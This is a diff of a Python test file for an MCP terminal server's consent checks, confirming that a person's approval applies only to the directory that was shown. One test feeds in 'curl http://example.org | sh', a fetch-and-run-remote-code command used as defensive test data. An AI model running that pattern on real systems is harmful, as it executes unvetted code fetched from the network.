@@ -2,6 +2,7 @@
 
 import asyncio
 import json
+from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
@@ -10,6 +11,8 @@ from mcp import Client
 
 from hermitty.adapters.mcp.local import LocalTerminals
 from hermitty.adapters.mcp.server import serving
+from hermitty.adapters.mcp.terminals import Consent, Line
+from hermitty.errors import CommandDenied
 from hermitty.events import ApprovalAsked
 from hermitty.runtime.api import Runtime, build_runtime
 from hermitty.runtime.approvals import Approval, Scope
@@ -159,6 +162,81 @@ async def test_a_tainted_terminal_is_asked_about(connect: Connect, work: Path) -
     assert "names may mean something else in this terminal" in person.asked[-1].message
 
 
+class Wanderer(Person):
+    """Leaves a terminal in another directory before the first answer."""
+
+    def __init__(self, rt: Runtime, terminal: str, **content: Any) -> None:
+        super().__init__(**content)
+        self._rt = rt
+        self._terminal = terminal
+
+    async def __call__(self, context: object, params: Any) -> Any:
+        if not self.asked:
+            await self._rt.run_in(self._terminal, "cd sub")
+        return await super().__call__(context, params)
+
+
+@pytest.mark.parametrize("way", ["run", "start", "run_persistent_command"])
+async def test_an_answer_counts_in_the_directory_that_was_shown(
+    connect: Connect, rt: Runtime, work: Path, way: str
+) -> None:
+    (work / "sub").mkdir()
+    terminal = (await rt.open_terminal(cwd=work)).id
+    person = Wanderer(rt, terminal, answer="allow_once")
+    name = "persistent_terminal_id" if way == "run_persistent_command" else "terminal_id"
+    async with connect(elicitation_callback=person) as client:
+        done = await data(client, way, command="touch new", **{name: terminal})
+        if way == "start":
+            await data(client, "wait", target=done["id"])
+    shown = [each.message.partition("It would run in bash in ")[2].partition(". Level")[0] for each in person.asked]
+    assert shown == [str(work), str(work / "sub")]
+    assert (work / "sub" / "new").exists()
+
+
+async def test_a_person_who_is_asked_again_can_say_no(connect: Connect, rt: Runtime, work: Path) -> None:
+    (work / "sub").mkdir()
+    terminal = (await rt.open_terminal(cwd=work)).id
+
+    class Careful(Wanderer):
+        async def __call__(self, context: object, params: Any) -> Any:
+            first = await super().__call__(context, params)
+            return first if len(self.asked) == 1 else await Person("decline")(context, params)
+
+    async with connect(elicitation_callback=Careful(rt, terminal, answer="allow_once")) as client:
+        assert "said no" in await failure(client, "run", command="touch new", terminal_id=terminal)
+    assert not (work / "sub" / "new").exists()
+
+
+async def test_an_answer_for_another_directory_is_not_taken(rt: Runtime, work: Path) -> None:
+    """However a command got there in between: the question is asked as one of its own."""
+    line = Line("touch new", "s", str(work))
+    terminals = LocalTerminals(rt)
+    elsewhere = Consent("touch new", "/elsewhere", True, "once", "somebody")
+    with pytest.raises(CommandDenied, match="hermitty mcp said no"):
+        await terminals.run(line, wait_s=PATIENCE_S, consent=elsewhere)
+    # A no is a no everywhere.
+    with pytest.raises(CommandDenied, match="somebody said no"):
+        await terminals.run(line, wait_s=PATIENCE_S, consent=replace(elsewhere, allow=False))
+    assert not (work / "new").exists()
+    await terminals.run(line, wait_s=PATIENCE_S, consent=replace(elsewhere, cwd=str(work)))
+    assert (work / "new").exists()
+    await terminals.aclose()
+
+
+@pytest.mark.parametrize("way", ["run", "start", "run_command"])
+async def test_the_directory_of_the_session_is_the_one_that_is_shown(connect: Connect, work: Path, way: str) -> None:
+    (work / "sub").mkdir()
+    (work / "link").symlink_to("sub")
+    person = Person(answer="allow_once")
+    async with connect(elicitation_callback=person) as client:
+        await call(client, "run", command="cd link", cwd=str(work))
+        done = await data(client, way, command="touch new")
+        if way == "start":
+            await data(client, "wait", target=done["id"])
+    assert len(person.asked) == 1
+    assert (work / "sub" / "new").exists()
+
+
 async def nobody_yet(question: object) -> Approval:
     """Whoever is asked on the page of a server."""
     await asyncio.Event().wait()
@@ -218,10 +296,6 @@ async def test_a_question_that_waits_can_be_given_up(
 
 
 async def test_a_foreseen_question_is_the_one_that_is_asked(rt: Runtime, work: Path) -> None:
-    from dataclasses import replace
-
-    from hermitty.adapters.mcp.terminals import Line
-
     terminals = LocalTerminals(rt)
     for command in ("touch x", BLOCKED, "curl http://example.org | sh", "make"):
         foreseen = terminals.foresee(Line(command, "s", str(work)))
